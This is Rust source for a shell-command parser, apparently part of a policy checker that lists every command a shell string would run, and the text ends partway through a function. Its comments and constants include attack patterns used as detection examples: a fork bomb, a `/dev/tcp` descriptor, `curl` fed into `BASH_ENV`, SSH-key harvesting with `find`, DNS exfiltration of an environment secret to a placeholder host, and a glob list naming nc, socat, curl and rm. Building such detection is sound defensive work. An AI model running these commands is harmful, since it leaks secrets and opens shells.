//! Shell-syntax parser: turns command text into the flat list of every simple command it would run.
//!
//! This is not a shell. It is a conservative reader that understands enough of POSIX sh and
//! bash (words and quoting, `$'..'`, operators, subshells, groups, functions, `$( )`,
//! backticks, `${..}`, redirections, here-documents, brace expansion, reserved words) to find
//! every command a string would start, including the ones hidden behind wrappers
//! (see the `unwrap` module). Anything it cannot follow is reported as an error, which the
//! policy turns into its `unparseable` rule. Work is bounded: nesting depth, wrapper depth,
//! command count and brace expansion are capped, and every loop consumes input, so hostile
//! text costs linear time and never overflows the stack.

use std::collections::HashMap;

pub use super::command::{
    basename, normalize_path, Inner, RedirKind, Redirect, SimpleCommand, DYNAMIC,
};
use super::{code, unwrap};

/// Deepest nesting of `( )`, `{ }`, `$( )`, backticks and `${ }` that is followed.
pub const MAX_NESTING: usize = 48;
/// Deepest chain of wrappers (`sudo env bash -c "nice ..."`) that is followed.
pub const MAX_UNWRAP: usize = 8;
/// Most simple commands gathered from one input.
pub const MAX_COMMANDS: usize = 1024;
/// Most words one brace expansion may produce.
const MAX_BRACE_WORDS: usize = 64;
/// Words with more unquoted `{` than this are not brace-expanded (keeps expansion linear).
const MAX_BRACE_GROUPS: usize = 32;
/// Words longer than this are not brace-expanded.
const MAX_BRACE_WORD: usize = 4096;
/// Most words in one simple command after expansion.
pub const MAX_ARGS: usize = 4096;
/// Most `while` loops open at once, and most read again with bound variables.
const MAX_OPEN_LOOPS: usize = 16;

/// A `while`/`until` loop being read: the byte where it starts and its first command.
#[derive(Debug, Clone, Copy)]
struct OpenLoop {
    start: usize,
    out: usize,
    /// `until` rather than `while` (its condition ends the loop when it succeeds).
    until: bool,
    /// `for ((;;))`: a loop with no condition at all.
    endless_for: bool,
}

/// Most numbered file descriptors followed through `exec N<file` and `<&N`.
const MAX_TRACKED_FDS: usize = 16;
/// Most upstream programs remembered for a pipeline.
const MAX_UPSTREAM: usize = 64;

// Sentinels for unquoted brace-expansion syntax and field splitting inside a word buffer.
const S_OPEN: u8 = 1;
const S_COMMA: u8 = 2;
const S_CLOSE: u8 = 3;
const S_SPLIT: u8 = 4;

/// Result of parsing: every command found, and why parsing stopped early if it did.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Parsed {
    /// Every simple command found, outer wrappers and unwrapped inner commands alike.
    pub commands: Vec<SimpleCommand>,
    /// Set when the input could not be followed completely (syntax error or a cap).
    pub error: Option<String>,
}

/// Starting context for a parse.
#[derive(Debug, Clone, Default)]
pub struct Context {
    /// Absolute working directory the command starts in, if known.
    pub cwd: Option<String>,
    /// Environment the command starts with (used to expand `$NAME`).
    pub env: Vec<(String, String)>,
}

/// Parses shell text into its simple commands.
pub fn parse(text: &str, ctx: &Context) -> Parsed {
    let mut st = State::new(ctx);
    // The script itself is the outermost "function": `$0` calls it again, so
    // `while true; do $0 & done` is a fork bomb like `f(){ f & }; f`.
    st.funcs.push(FuncFrame {
        name: SELF_NAME.to_string(),
        forks: false,
        self_calls: Vec::new(),
    });
    let res = {
        let mut p = Parser::new(text.as_bytes(), &mut st, 0);
        p.parse_list(End::Eof)
    };
    if let Some(f) = st.funcs.pop().filter(|f| f.forks) {
        for i in f.self_calls {
            if let Some(c) = st.out.get_mut(i) {
                c.recursive_call = true;
            }
        }
    }
    st.into_parsed(res)
}

/// How a script names itself.
const SELF_NAME: &str = "$0";

/// Parses an argument vector (no shell involved) into its simple commands.
pub fn parse_argv(argv: &[String], ctx: &Context) -> Parsed {
    let mut st = State::new(ctx);
    let res = if argv.is_empty() {
        Err("empty argv".to_string())
    } else {
        let cmd = SimpleCommand {
            argv: argv.to_vec(),
            cwd: st.cwd.clone(),
            dynamic_program: false,
            ..SimpleCommand::default()
        };
        let mut p = Parser::new(b"", &mut st, 0);
        p.push_command(cmd, true)
    };
    st.into_parsed(res)
}

type PResult<T> = Result<T, String>;

struct PendingHeredoc {
    delim: Vec<u8>,
    strip_tabs: bool,
    expand: bool,
    cmd: usize,
}

struct FuncFrame {
    name: String,
    forks: bool,
    self_calls: Vec<usize>,
}

/// A shell variable name: a letter or `_`, then letters, digits and `_`.
fn is_var_name(s: &str) -> bool {
    let mut bytes = s.bytes();
    bytes
        .next()
        .is_some_and(|b| b == b'_' || b.is_ascii_alphabetic())
        && bytes.all(|b| b == b'_' || b.is_ascii_alphanumeric())
}

/// Most names `alias`, `hash -p` and `BASH_CMDS` may define.
const MAX_ALIASES: usize = 64;

/// Most bytes remembered of one written script.
const MAX_SCRIPT_BYTES: usize = 65536;

/// Most values a loop variable is bound to; with more it stays unknown, like `$(…)`.
const MAX_LOOP_VALUES: usize = 64;

struct State {
    out: Vec<SimpleCommand>,
    vars: HashMap<String, String>,
    /// `for NAME in WORDS`: every value the loop gives NAME. The body is checked once, with
    /// `$NAME` standing for all of them at once (as separate words), so `rm -rf "$d"` over
    /// `/bin /tmp/x` is checked as `rm -rf /bin /tmp/x`.
    loop_vars: HashMap<String, Vec<String>>,
    /// Files this input writes with text it spells out (`echo … > x.sh`, `printf … | tee
    /// x.sh`), by normalized path: a later `sh x.sh`, `./x.sh` or `. x.sh` is checked as that
    /// text.
    scripts: HashMap<String, String>,
    /// Written files whose command lines a later command of this input already had judged
    /// (see `written_files_used_by`); writing a file again takes it off.
    judged_scripts: std::collections::HashSet<String>,
    /// Functions whose body runs their arguments (`run(){ "$@"; }`): a call is a wrapper.
    passthrough: std::collections::HashSet<String>,
    cwd: Option<String>,
    upstream: Vec<String>,
    /// Files read by earlier commands of the current pipelines (see `piped_reads`).
    upstream_reads: Vec<String>,
    /// What earlier commands of the current pipelines list (see `piped_listing`).
    upstream_lists: Vec<String>,
    /// Programs and files whose output a `$(...)` substitution carries into the arguments
    /// of the command being read (`host "$(printenv KEY | base32)".x.example`): it joins that
    /// command's `piped_from` / `piped_reads`, as if piped in.
    subst_up: Vec<String>,
    subst_reads: Vec<String>,
    /// What the process substitutions of the command being read print (see `fed_text`).
    fed_text: Vec<String>,
    pending_stdin: Option<String>,
    /// Files opened on numbered descriptors (`exec 5<>/dev/tcp/h/p`), so that a later
    /// duplication (`sh <&5 >&5`) reads or writes the file itself.
    fds: HashMap<u32, String>,
    /// `while`/`until` loops not closed yet (where each starts, and its first command).
    loops: Vec<OpenLoop>,
    /// The loop a `done` just closed, for a `< <(cmd)` that follows it.
    closed_loop: Option<OpenLoop>,
    /// Loops already read again with their variables bound (by start position).
    rebound: Vec<usize>,
    heredocs: Vec<PendingHeredoc>,
    funcs: Vec<FuncFrame>,
    wrap_depth: usize,
    /// `$1`, `$2` … when known: the arguments after a `sh -c` script (`sh -c 'rm -rf "$1"'
    /// _ /etc`), or what `set --` set.
    positional: Option<Vec<String>>,
    /// Commands started in the background (`cmd &`), by index in `out`.
    backgrounded: Vec<usize>,
    /// Names that stand for other programs: `alias x='rm -rf'`, `hash -p /bin/rm x`,
    /// `BASH_CMDS[x]=/bin/rm`.
    aliases: HashMap<String, String>,
}

impl State {
    fn new(ctx: &Context) -> State {
        let mut vars: HashMap<String, String> = ctx
            .env
            .iter()
            .filter(|(k, _)| k != "HOME" && k != "IFS")
            .take(512)
            .cloned()
            .collect();
        vars.remove("HOME");
        State {
            out: Vec::new(),
            vars,
            loop_vars: HashMap::new(),
            scripts: HashMap::new(),
            judged_scripts: std::collections::HashSet::new(),
            passthrough: std::collections::HashSet::new(),
            cwd: ctx.cwd.clone(),
            upstream: Vec::new(),
            upstream_reads: Vec::new(),
            upstream_lists: Vec::new(),
            subst_up: Vec::new(),
            subst_reads: Vec::new(),
            fed_text: Vec::new(),
            pending_stdin: None,
            fds: HashMap::new(),
            loops: Vec::new(),
            closed_loop: None,
            rebound: Vec::new(),
            heredocs: Vec::new(),
            funcs: Vec::new(),
            wrap_depth: 0,
            positional: None,
            backgrounded: Vec::new(),
            aliases: HashMap::new(),
        }
    }

    fn into_parsed(self, res: PResult<()>) -> Parsed {
        Parsed {
            commands: self.out,
            error: res.err(),
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum End {
    Eof,
    Paren,
    Brace,
    Case,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Flow {
    Done,
    CloseBrace,
}

#[derive(Default)]
struct Word {
    buf: Vec<u8>,
    quoted: bool,
    dynamic: bool,
    assign: Option<usize>,
    name_ok: bool,
    opens: usize,
}

impl Word {
    fn new() -> Word {
        Word {
            name_ok: true,
            ..Word::default()
        }
    }

    fn push(&mut self, b: u8, quoted: bool) {
        let b = if b <= S_SPLIT { b'?' } else { b };
        if quoted {
            self.quoted = true;
        }
        if self.assign.is_none() {
            if !quoted && b == b'=' && self.name_ok && !self.buf.is_empty() {
                self.assign = Some(self.buf.len());
            } else if quoted
                || !(b.is_ascii_alphanumeric() || b == b'_')
                || (self.buf.is_empty() && b.is_ascii_digit())
            {
                self.name_ok = false;
            }
        }
        if !quoted && b == b'{' {
            self.opens += 1;
            self.buf.push(S_OPEN);
        } else if !quoted && b == b',' {
            self.buf.push(S_COMMA);
        } else if !quoted && b == b'}' {
            self.buf.push(S_CLOSE);
        } else {
            self.buf.push(b);
        }
    }

    fn push_str(&mut self, s: &[u8], quoted: bool) {
        for &b in s {
            if !quoted && matches!(b, b' ' | b'\t' | b'\n') {
                self.name_ok = false;
                self.buf.push(S_SPLIT);
            } else {
                // Expanded text is not subject to brace expansion, only to field splitting.
                self.push(b, true);
            }
        }
    }

    fn push_split(&mut self) {
        self.name_ok = false;
        self.buf.push(S_SPLIT);
    }

    /// The literal text if the word is a plain unquoted word (reserved-word candidates).
    fn plain(&self) -> Option<String> {
        if self.quoted || self.dynamic || self.buf.contains(&S_SPLIT) {
            return None;
        }
        Some(restore(&self.buf))
    }

    fn into_fields(self) -> Vec<String> {
        let words =
            if self.opens > 0 && self.opens <= MAX_BRACE_GROUPS && self.buf.len() <= MAX_BRACE_WORD
            {
                let mut out = Vec::new();
                brace_expand(&self.buf, &mut out);
                out
            } else {
                vec![self.buf]
            };
        let mut fields = Vec::new();
        for w in words {
            if w.contains(&S_SPLIT) {
                for part in w.split(|&b| b == S_SPLIT) {
                    if !part.is_empty() {
                        fields.push(restore(part));
                    }
                }
            } else {
                fields.push(restore_owned(w));
            }
        }
        fields
    }

    fn into_string(self) -> String {
        // `restore` turns the split marks into blanks.
        restore_owned(self.buf)
    }
}

fn restore(bytes: &[u8]) -> String {
    restore_owned(bytes.to_vec())
}

/// [`restore`] in place: one allocation fewer on every word of every check.
fn restore_owned(mut v: Vec<u8>) -> String {
    for b in &mut v {
        *b = match *b {
            S_OPEN => b'{',
            S_COMMA => b',',
            S_CLOSE => b'}',
            S_SPLIT => b' ',
            other => other,
        };
    }
    String::from_utf8(v).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// A loop variable bound to a find listing takes its entries (`ROOT/*`), not the extra
/// `ROOT/**` the listing carries for xargs: each value is one more word inside quoted text
/// (`sh -c ": > '$f'"`), where a second one would split the script.
fn drop_deep_listings(values: &mut Vec<String>) {
    let shallow: Vec<String> = values
        .iter()
        .filter(|v| v.ends_with("/*"))
        .cloned()
        .collect();
    values.retain(|v| {
        v.strip_suffix("/**")
            .is_none_or(|root| !shallow.iter().any(|e| e.strip_suffix("/*") == Some(root)))
    });
}

/// `NAME[KEY]=VALUE` (an array element assignment, not a command): `NAME[KEY` and VALUE.
fn element_assign(word: &str) -> Option<(&str, &str)> {
    let (lhs, value) = word.split_once("]=")?;
    let (name, key) = lhs.split_once('[')?;
    (is_var_name(name) && !key.is_empty() && !key.contains(['[', ']'])).then_some((lhs, value))
}

/// Programs a glob in the program position is checked as: `/???/r?` runs `/bin/rm`. The
/// first (in this order) that the pattern matches; the shell would run whatever matches on
/// the host, and these are the ones an attacker spells that way.
fn glob_program(word: &str) -> Option<&'static str> {
    const KNOWN: &[&str] = &[
        "/bin/rm",
        "/usr/bin/rm",
        "/bin/sh",
        "/bin/bash",
        "/usr/bin/bash",
        "/bin/dd",
        "/usr/bin/dd",
        "/bin/nc",
        "/usr/bin/nc",
        "/usr/bin/ncat",
        "/usr/bin/curl",
        "/usr/bin/wget",
        "/bin/chmod",
        "/usr/bin/chmod",
        "/bin/chown",
        "/sbin/mkfs",
        "/usr/sbin/mkfs",
        "/usr/bin/shred",
        "/usr/bin/python3",
        "/usr/bin/perl",
        "/usr/bin/socat",
        "/bin/cat",
        "/usr/bin/cat",
        "/usr/bin/base64",
        "/sbin/reboot",
        "/usr/sbin/reboot",
        "/sbin/shutdown",
        "/usr/sbin/shutdown",
        "/bin/kill",
        "/usr/bin/kill",
        "/usr/bin/crontab",
        "/usr/bin/sudo",
    ];
    if !word.starts_with('/') || !word.contains(['*', '?']) || word.contains(['[', '$']) {
        return None;
    }
    KNOWN
        .iter()
        .copied()
        .find(|k| glob_match(word.as_bytes(), k.as_bytes()) && glob_match_slashes(word, k))
}

/// A glob's `*` and `?` never match `/`: the two paths have the same number of parts.
fn glob_match_slashes(pat: &str, path: &str) -> bool {
    pat.matches('/').count() == path.matches('/').count()
}

/// `${v%pat}` (`suffix`) or `${v#pat}` with the shortest (or `longest`) match removed.
fn trim_pattern(value: &str, pat: &str, suffix: bool, longest: bool) -> String {
    let cuts: Vec<usize> = value
        .char_indices()
        .map(|(i, _)| i)
        .chain(std::iter::once(value.len()))
        .collect();
    let mut best: Option<&str> = None;
    for &i in &cuts {
        let (kept, cut) = if suffix {
            (&value[..i], &value[i..])
        } else {
            (&value[i..], &value[..i])
        };
        if glob_match(pat.as_bytes(), cut.as_bytes()) {
            let better = best.is_none_or(|b| {
                if longest {
                    kept.len() < b.len()
                } else {
                    kept.len() > b.len()
                }
            });
            if better {
                best = Some(kept);
            }
        }
    }
    best.unwrap_or(value).to_string()
}

/// Whether `text` matches the shell glob `pat` (`*`, `?`, literal bytes).
fn glob_match(pat: &[u8], text: &[u8]) -> bool {
    let (mut p, mut t) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        if p < pat.len() && (pat[p] == b'?' || pat[p] == text[t]) {
            p += 1;
            t += 1;
        } else if p < pat.len() && pat[p] == b'*' {
            star = Some((p, t));
            p += 1;
        } else if let Some((sp, st)) = star {
            p = sp + 1;
            t = st + 1;
            star = Some((sp, st + 1));
        } else {
            return false;
        }
    }
    pat[p..].iter().all(|&c| c == b'*')
}

/// Expands the first `{a,b}` group with a top-level comma, recursively, capped.
fn brace_expand(buf: &[u8], out: &mut Vec<Vec<u8>>) {
    if out.len() >= MAX_BRACE_WORDS {
        return;
    }
    for (start, _) in buf.iter().enumerate().filter(|(_, &b)| b == S_OPEN) {
        let mut depth = 0usize;
        let mut commas = Vec::new();
        let mut end = None;
        for (i, &b) in buf.iter().enumerate().skip(start + 1) {
            match b {
                S_OPEN => depth += 1,
                S_CLOSE if depth == 0 => {
                    end = Some(i);
                    break;
                }
                S_CLOSE => depth -= 1,
                S_COMMA if depth == 0 => commas.push(i),
                _ => {}
            }
        }
        let Some(end) = end else { continue };
        if commas.is_empty() {
            continue;
        }
        let mut bounds = vec![start];
        bounds.extend(commas);
        bounds.push(end);
        for pair in bounds.windows(2) {
            let mut w = buf[..start].to_vec();
            w.extend_from_slice(&buf[pair[0] + 1..pair[1]]);
            w.extend_from_slice(&buf[end + 1..]);
            brace_expand(&w, out);
            if out.len() >= MAX_BRACE_WORDS {
                return;
            }
        }
        return;
    }
    out.push(buf.to_vec());
}

fn is_meta(b: u8) -> bool {
    matches!(
        b,
        b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
    )
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\r')
}

struct Parser<'s, 'st> {
    src: &'s [u8],
    pos: usize,
    st: &'st mut State,
    depth: usize,
}

impl<'s, 'st> Parser<'s, 'st> {
    fn new(src: &'s [u8], st: &'st mut State, depth: usize) -> Parser<'s, 'st> {
        Parser {
            src,
            pos: 0,
            st,
            depth,
        }
    }

    fn peek(&self) -> Option<u8> {
        self.src.get(self.pos).copied()
    }

    fn peek_at(&self, off: usize) -> Option<u8> {
        self.src.get(self.pos + off).copied()
    }

    fn enter(&mut self) -> PResult<()> {
        self.depth += 1;
        if self.depth > MAX_NESTING {
            return Err(format!("nesting deeper than {MAX_NESTING}"));
        }
        Ok(())
    }

    fn leave(&mut self) {
        self.depth = self.depth.saturating_sub(1);
    }

    /// Parses `text` in a fresh parser sharing this state (backticks, `bash -c`, here-docs).
    fn sub_parse(&mut self, text: &[u8]) -> PResult<()> {
        self.enter()?;
        let depth = self.depth;
        let saved_up = std::mem::take(&mut self.st.upstream);
        let saved_heredocs = std::mem::take(&mut self.st.heredocs);
        // Loop positions are offsets into one text: the inner text keeps its own.
        let saved_loops = (
            std::mem::take(&mut self.st.loops),
            self.st.closed_loop.take(),
            std::mem::take(&mut self.st.rebound),
        );
        let res = {
            let mut sub = Parser::new(text, &mut *self.st, depth);
            sub.parse_list(End::Eof)
        };
        self.st.upstream = saved_up;
        self.st.heredocs = saved_heredocs;
        (self.st.loops, self.st.closed_loop, self.st.rebound) = saved_loops;
        self.leave();
        res
    }

    fn skip_blanks(&mut self) {
        while let Some(b) = self.peek() {
            if is_blank(b) {
                self.pos += 1;
            } else if b == b'\\' && self.peek_at(1) == Some(b'\n') {
                self.pos += 2;
            } else {
                break;
            }
        }
    }

    fn skip_blanks_newlines(&mut self) -> PResult<()> {
        loop {
            self.skip_blanks();
            match self.peek() {
                Some(b'#') => {
                    while let Some(b) = self.peek() {
                        if b == b'\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                Some(b'\n') => {
                    self.pos += 1;
                    self.read_heredocs()?;
                }
                _ => return Ok(()),
            }
        }
    }

    fn parse_list(&mut self, end: End) -> PResult<()> {
        loop {
            let start = self.pos;
            self.skip_blanks_newlines()?;
            match self.peek() {
                None => {
                    return if end == End::Eof {
                        Ok(())
                    } else {
                        Err("unexpected end of input".to_string())
                    }
                }
                Some(b')') => {
                    return match end {
                        End::Paren => {
                            self.pos += 1;
                            Ok(())
                        }
                        End::Case => Ok(()),
                        _ => Err("unexpected `)`".to_string()),
                    }
                }
                Some(b';') if self.peek_at(1) == Some(b';') && end == End::Case => return Ok(()),
                _ => {}
            }
            if self.parse_pipeline()? == Flow::CloseBrace {
                if end == End::Brace {
                    return Ok(());
                }
                continue;
            }
            self.skip_blanks();
            match self.peek() {
                Some(b';') => {
                    if self.peek_at(1) == Some(b';') {
                        if end == End::Case {
                            return Ok(());
                        }
                        self.pos += 2;
                        if self.peek() == Some(b'&') {
                            self.pos += 1;
                        }
                    } else {
                        self.pos += 1;
                        if self.peek() == Some(b'&') {
                            self.pos += 1;
                        }
                    }
                }
                Some(b'&') => {
                    self.pos += 1;
                    if self.peek() == Some(b'&') {
                        self.pos += 1;
                    } else {
                        self.mark_fork();
                        if let Some(last) = self.st.out.len().checked_sub(1) {
                            if self.st.backgrounded.len() < MAX_COMMANDS {
                                self.st.backgrounded.push(last);
                            }
                        }
                    }
                }
                Some(b'|') if self.peek_at(1) == Some(b'|') => self.pos += 2,
                _ => {}
            }
            if self.pos == start {
                let b = self.peek().map(char::from).unwrap_or(' ');
                return Err(format!("unexpected `{b}`"));
            }
        }
    }

    /// Whether the input at the cursor is `((;;))` (blanks allowed), a `for` with no end.
    fn at_endless_for(&self) -> bool {
        let rest = &self.src[self.pos..];
        let start = rest
            .iter()
            .position(|b| !is_blank(*b))
            .unwrap_or(rest.len());
        let rest = &rest[start..];
        if !rest.starts_with(b"((") {
            return false;
        }
        let Some(end) = rest.windows(2).position(|w| w == b"))") else {
            return false;
        };
        rest[2..end]
            .iter()
            .filter(|b| !b.is_ascii_whitespace())
            .eq(b";;".iter())
    }

    /// An endless loop (`while true`, `while :`, `until false`, `for ((;;))`) whose body
    /// starts commands in the background and never waits or sleeps makes processes without
    /// bound: those commands count as a self-call that forks, as in a fork bomb.
    fn mark_endless_forks(&mut self, lp: &OpenLoop) {
        let body = self.st.out.get(lp.out..).unwrap_or(&[]);
        let endless = lp.endless_for
            || body.first().is_some_and(|c| {
                let cond: Vec<&str> = c.argv.iter().map(String::as_str).collect();
                if lp.until {
                    cond == ["false"]
                } else {
                    matches!(cond.as_slice(), ["true"] | [":"] | ["[", "1", "]"])
                }
            });
        let paced = body.iter().any(|c| {
            c.argv
                .first()
                .is_some_and(|p| matches!(basename(p), "wait" | "sleep" | "read"))
        });
        if !endless || paced {
            return;
        }
        let first = lp.out;
        let marked: Vec<usize> = self
            .st
            .backgrounded
            .iter()
            .copied()
            .filter(|&i| i >= first)
            .collect();
        for i in marked {
            if let Some(c) = self.st.out.get_mut(i) {
                c.recursive_call = true;
            }
        }
    }

    fn mark_fork(&mut self) {
        if let Some(f) = self.st.funcs.last_mut() {
            f.forks = true;
        }
    }

    fn parse_pipeline(&mut self) -> PResult<Flow> {
        let base = self.st.upstream.len();
        let reads_base = self.st.upstream_reads.len();
        let lists_base = self.st.upstream_lists.len();
        let mut stdin: Option<String> = None;
        loop {
            self.skip_blanks();
            let first = self.st.out.len();
            let group = matches!(self.peek(), Some(b'(') | Some(b'{'));
            self.st.pending_stdin = stdin.take();
            let flow = self.parse_command()?;
            self.st.pending_stdin = None;
            if flow == Flow::CloseBrace {
                self.st.upstream.truncate(base);
                self.st.upstream_reads.truncate(reads_base);
                self.st.upstream_lists.truncate(lists_base);
                return Ok(flow);
            }
            let new = &self.st.out[first..];
            if let [only] = new {
                stdin = stage_output(only);
            } else if group && new.len() > 1 {
                // A group prints what its commands print, in order; the parts known are
                // kept (`(crontab -l; echo '* * * * * job') | crontab -`).
                let known: Vec<String> = new.iter().filter_map(stage_output).collect();
                if !known.is_empty() {
                    stdin = Some(known.join("\n"));
                }
            }
            let reads: Vec<String> = new
                .iter()
                .flat_map(super::command::files_flowing_through)
                .chain(
                    new.iter()
                        .filter_map(super::command::secret_output)
                        .map(str::to_string),
                )
                .collect();
            for r in reads {
                push_new(&mut self.st.upstream_reads, r);
            }
            let lists: Vec<String> = new
                .iter()
                .flat_map(super::command::listed_entries)
                .collect();
            // Files a name test picks out (`find / -name 'id_*'`) are what the next stage
            // reads when it opens what it is given (`tar czf - -T -`, `xargs cat`).
            for l in lists.iter().filter(|l| l.contains("/**/")) {
                push_new(&mut self.st.upstream_reads, l.clone());
            }
            for l in lists {
                push_new(&mut self.st.upstream_lists, l);
            }
            let progs: Vec<String> = new
                .iter()
                .filter_map(|c| c.argv.first().map(|a| basename(a).to_string()))
                .collect();
            for p in progs {
                if self.st.upstream.len() < MAX_UPSTREAM {
                    self.st.upstream.push(p);
                }
            }
            self.skip_blanks();
            if self.peek() == Some(b'|') && self.peek_at(1) != Some(b'|') {
                self.pos += 1;
                if self.peek() == Some(b'&') {
                    self.pos += 1;
                }
                self.mark_fork();
                self.skip_blanks_newlines()?;
                continue;
            }
            break;
        }
        self.st.upstream.truncate(base);
        self.st.upstream_reads.truncate(reads_base);
        self.st.upstream_lists.truncate(lists_base);
        Ok(Flow::Done)
    }

    fn parse_command(&mut self) -> PResult<Flow> {
        self.skip_blanks();
        if self.peek() == Some(b'(') {
            let first = self.st.out.len();
            if self.peek_at(1) == Some(b'(') {
                self.pos += 2;
                self.skip_arith()?;
            } else {
                self.pos += 1;
                self.enter()?;
                self.parse_list(End::Paren)?;
                self.leave();
            }
            self.trailing_redirects(first)?;
            return Ok(Flow::Done);
        }
        self.parse_simple()
    }

    /// Redirections after a compound command apply to every command inside it.
    fn trailing_redirects(&mut self, first: usize) -> PResult<()> {
        loop {
            self.skip_blanks();
            if !self.at_redirect() {
                return Ok(());
            }
            let mut reds = Vec::new();
            let mut stdin = None;
            let mut docs = Vec::new();
            let mut links = SubstLinks::default();
            self.parse_redirect(&mut reds, &mut stdin, &mut docs, &mut links)?;
            let inner = self.st.out.len() - links.fed.len();
            let progs: Vec<String> = self.st.out[first..inner]
                .iter()
                .filter_map(|c| c.argv.first().map(|p| basename(p).to_string()))
                .collect();
            for c in self.st.out.iter_mut().skip(first).take(inner - first) {
                c.redirects.extend(reds.iter().cloned());
                for p in &links.feeding {
                    push_new(&mut c.piped_from, p.clone());
                }
            }
            for i in links.fed {
                for p in &progs {
                    push_new(&mut self.st.out[i].piped_from, p.clone());
                }
            }
        }
    }

    fn at_redirect(&self) -> bool {
        match self.peek() {
            Some(b'<') | Some(b'>') => self.peek_at(1) != Some(b'('),
            Some(b'&') => self.peek_at(1) == Some(b'>'),
            Some(b) if b.is_ascii_digit() => {
                let mut i = self.pos;
                while i < self.src.len() && self.src[i].is_ascii_digit() {
                    i += 1;
                }
                matches!(self.src.get(i), Some(b'<') | Some(b'>'))
            }
            _ => false,
        }
    }

    /// Parses `<(cmd)` / `>(cmd)` at the cursor, adding its programs to `up`.
    fn proc_subst(&mut self, up: &mut Vec<String>) -> PResult<()> {
        self.pos += 2;
        self.enter()?;
        let first = self.st.out.len();
        let saved = std::mem::take(&mut self.st.upstream);
        let saved_fed = std::mem::take(&mut self.st.fed_text);
        let res = self.parse_list(End::Paren);
        self.st.upstream = saved;
        self.st.fed_text = saved_fed;
        res?;
        self.leave();
        if let Some(text) = self.st.out[first..].last().and_then(stage_output) {
            if self.st.fed_text.len() < MAX_UPSTREAM {
                self.st.fed_text.push(text);
            }
        }
        for c in &self.st.out[first..] {
            if let Some(p) = c.argv.first() {
                if up.len() < MAX_UPSTREAM {
                    up.push(basename(p).to_string());
                }
            }
        }
        Ok(())
    }

    fn parse_simple(&mut self) -> PResult<Flow> {
        let mut cmd = SimpleCommand::default();
        let mut words: Vec<Word> = Vec::new();
        let mut dynamic_first = false;
        let mut docs: Vec<PendingHeredoc> = Vec::new();
        let mut stdin = self.st.pending_stdin.take();
        let mut extra_up: Vec<String> = Vec::new();
        let mut links = SubstLinks::default();
        let (subst_up_base, subst_reads_base) = (self.st.subst_up.len(), self.st.subst_reads.len());
        loop {
            self.skip_blanks();
            let Some(b) = self.peek() else { break };
            if b == b'#' {
                // A comment runs to the end of the line.
                while self.peek().is_some_and(|c| c != b'\n') {
                    self.pos += 1;
                }
                break;
            }
            if self.at_redirect() {
                self.parse_redirect(&mut cmd.redirects, &mut stdin, &mut docs, &mut links)?;
                continue;
            }
            match b {
                b'\n' | b';' | b'&' | b'|' | b')' => break,
                b'(' => {
                    let is_func = words.len() == 1 && cmd.assigns.is_empty();
                    if is_func {
                        self.pos += 1;
                        self.skip_blanks();
                        if self.peek() != Some(b')') {
                            return Err("expected `)` in function definition".to_string());
                        }
                        self.pos += 1;
                        let name = words.pop().map(Word::into_string).unwrap_or_default();
                        self.function_body(name)?;
                        return Ok(Flow::Done);
                    }
                    if let Some((name, _)) = cmd.assigns.last() {
                        if words.is_empty() {
                            // Array assignment `a=(x y)`: read the words, keep the name.
                            let name = name.clone();
                            self.pos += 1;
                            self.enter()?;
                            let mut vals = Vec::new();
                            loop {
                                self.skip_blanks_newlines()?;
                                match self.peek() {
                                    Some(b')') => {
                                        self.pos += 1;
                                        break;
                                    }
                                    None => return Err("unterminated array".to_string()),
                                    Some(c) if is_meta(c) => {
                                        return Err("unexpected operator in array".to_string())
                                    }
                                    _ => vals.extend(self.read_word()?.into_fields()),
                                }
                            }
                            self.leave();
                            if let Some(last) = cmd.assigns.last_mut() {
                                *last = (name, vals.join(" "));
                            }
                            continue;
                        }
                    }
                    return Err("unexpected `(`".to_string());
                }
                b'<' | b'>' => {
                    // Process substitution `<(cmd)` / `>(cmd)`: its programs feed this command.
                    let value_of_assign = words.is_empty()
                        && self.pos > 0
                        && self.src[self.pos - 1] == b'='
                        && cmd.assigns.last().is_some_and(|(_, v)| v.is_empty());
                    self.proc_subst(&mut extra_up)?;
                    if value_of_assign {
                        // `BASH_ENV=<(curl …) bash`: the variable names the substitution.
                        if let Some(last) = cmd.assigns.last_mut() {
                            last.1 = "/dev/fd/63".to_string();
                        }
                        continue;
                    }
                    let mut w = Word::new();
                    w.push_str(b"/dev/fd/63", true);
                    words.push(w);
                }
                _ => {
                    let word_start = self.pos;
                    let w = self.read_word()?;
                    if words.is_empty() && cmd.assigns.is_empty() && cmd.redirects.is_empty() {
                        if let Some(p) = w.plain() {
                            match p.as_str() {
                                "while" | "until" => {
                                    if self.st.loops.len() < MAX_OPEN_LOOPS {
                                        self.st.loops.push(OpenLoop {
                                            start: word_start,
                                            out: self.st.out.len(),
                                            until: p == "until",
                                            endless_for: false,
                                        });
                                    }
                                    continue;
                                }
                                "done" => {
                                    let lp = self.st.loops.pop();
                                    if let Some(lp) = &lp {
                                        self.mark_endless_forks(lp);
                                    }
                                    self.st.closed_loop = lp;
                                    continue;
                                }
                                "{" => {
                                    let first = self.st.out.len();
                                    self.enter()?;
                                    self.parse_list(End::Brace)?;
                                    self.leave();
                                    self.trailing_redirects(first)?;
                                    return Ok(Flow::Done);
                                }
                                "}" => return Ok(Flow::CloseBrace),
                                "if" | "then" | "else" | "elif" | "fi" | "do" | "!" | "time"
                                | "esac" | "coproc" => continue,
                                "for" | "select" => {
                                    let endless_for = self.at_endless_for();
                                    if self.st.loops.len() < MAX_OPEN_LOOPS {
                                        self.st.loops.push(OpenLoop {
                                            start: word_start,
                                            out: self.st.out.len(),
                                            until: false,
                                            endless_for,
                                        });
                                    }
                                    self.loop_header()?;
                                    return Ok(Flow::Done);
                                }
                                "case" => {
                                    self.parse_case()?;
                                    return Ok(Flow::Done);
                                }
                                "function" => {
                                    self.skip_blanks();
                                    let name = self.read_word()?.into_string();
                                    self.skip_blanks();
                                    if self.peek() == Some(b'(') {
                                        self.pos += 1;
                                        self.skip_blanks();
                                        if self.peek() != Some(b')') {
                                            return Err(
                                                "expected `)` after function name".to_string()
                                            );
                                        }
                                        self.pos += 1;
                                    }
                                    self.function_body(name)?;
